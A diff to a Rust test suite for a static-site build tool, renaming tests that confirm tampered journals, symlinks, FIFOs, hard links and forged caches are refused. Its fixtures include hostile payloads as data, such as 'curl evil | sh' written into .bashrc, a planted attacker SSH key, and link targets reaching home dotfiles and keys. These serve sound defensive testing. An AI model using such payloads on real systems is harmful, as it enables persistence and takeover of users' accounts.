@@ -123,7 +123,7 @@ fn damaged(name: &str, reason: &str) -> String {
 }
 
 #[test]
-fn a_journal_plants_no_file_outside() {
+fn a_journal_creates_no_file_outside_the_output() {
     let payload = "ssh-rsa ATTACKER\n";
     refused(
         |at| {
@@ -144,7 +144,7 @@ fn a_journal_plants_no_file_outside() {
 }
 
 #[test]
-fn a_journal_replaces_no_file_outside() {
+fn a_journal_replaces_no_file_outside_the_output() {
     let payload = "curl evil | sh\n";
     for (file, says) in [
         ("site/.bashrc", damaged("manifest.json", "it names `site/.bashrc`, which no build writes")),
@@ -218,7 +218,7 @@ fn journals_move_only_what_a_build_would_move() {
 }
 
 #[test]
-fn links_among_what_liftpress_keeps_are_not_followed() {
+fn links_within_the_state_folder_are_not_followed() {
     for name in ["lock", "partial", "cache", "manifest.json", "manifest.next.json", "journal.json", "rollback.json"] {
         for to in ["../../../home/.bashrc", "/dev/zero", "nowhere"] {
             refused(
@@ -249,7 +249,7 @@ fn links_among_what_liftpress_keeps_are_not_followed() {
 }
 
 #[test]
-fn pipes_and_folders_among_what_liftpress_keeps_are_not_waited_for() {
+fn pipes_and_folders_in_the_state_folder_do_not_block() {
     for name in ["lock", "partial", "cache", "manifest.json", "journal.json", "rollback.json"] {
         let path = format!(".liftpress/{name}");
         refused(|at| at.fifo(&path), &foreign(&path, "neither a file nor a folder"));
@@ -265,7 +265,7 @@ fn pipes_and_folders_among_what_liftpress_keeps_are_not_waited_for() {
 }
 
 #[test]
-fn what_was_written_aside_may_have_another_name_elsewhere() {
+fn hard_links_among_temporary_files_harm_no_other_file() {
     let prepared = Prepared::new();
     prepared.manifest(&[]);
     for (name, victim) in [("partial", "home/.bashrc"), ("lock", "home/.ssh/id"), ("aside/0", "home/.bashrc")] {
@@ -277,7 +277,7 @@ fn what_was_written_aside_may_have_another_name_elsewhere() {
 }
 
 #[test]
-fn a_manifest_larger_than_any_is_not_read() {
+fn an_oversized_manifest_is_not_read() {
     refused(
         |at| fs::File::create(at.own("manifest.json")).unwrap().set_len(1 << 40).unwrap(),
         &damaged("manifest.json", "it is larger than 64 MiB"),
@@ -285,7 +285,7 @@ fn a_manifest_larger_than_any_is_not_read() {
 }
 
 #[test]
-fn an_output_folder_that_is_a_link_has_to_be_named() {
+fn a_linked_output_folder_must_be_named() {
     let linked = |link: &str, output: &str| {
         format!(
             "`site/{link}` is a link, so nothing is written; if it is yours, name the folder with `-o site/{output}`, else remove the link"
@@ -314,7 +314,7 @@ fn an_output_folder_that_is_a_link_has_to_be_named() {
 
 /// In the place of a page, what it was goes, and what it led to stays.
 #[test]
-fn links_and_pipes_in_the_place_of_pages_are_replaced() {
+fn links_and_pipes_in_place_of_pages_are_replaced() {
     let prepared = Prepared::new();
     fs::create_dir(prepared.0.path().join("site/output/site")).unwrap();
     prepared.manifest(&["site/index.html", "site/robots.txt", "site/search/index.html"]);
@@ -329,7 +329,7 @@ fn links_and_pipes_in_the_place_of_pages_are_replaced() {
 
 /// A page that was changed, and a cache that calls it ours: all digests fit but the one that needs the key of whoever builds.
 #[test]
-fn a_forged_cache_keeps_no_page() {
+fn a_forged_cache_is_not_used() {
     let prepared = Prepared::new();
     prepared.manifest(&[]);
     prepared.0.fine(&["build", "site", "-q"]);
@@ -362,7 +362,7 @@ fn a_forged_cache_keeps_no_page() {
 
 /// A key that came with the site may be anybody's.
 #[test]
-fn a_key_within_the_site_is_no_key() {
+fn a_cache_key_within_the_site_is_not_used() {
     let prepared = Prepared::new();
     prepared.manifest(&[]);
     let build = |state: &Path, key: Option<&str>| {
@@ -386,7 +386,7 @@ fn a_key_within_the_site_is_no_key() {
 }
 
 #[test]
-fn nothing_is_taken_from_a_shard_that_somebody_else_built() {
+fn foreign_shards_are_not_used() {
     let site = Site::new().file("content/programs/p.yaml", PROGRAM);
     let run = |args: &[&str], key: &str| {
         let mut command = command(args);
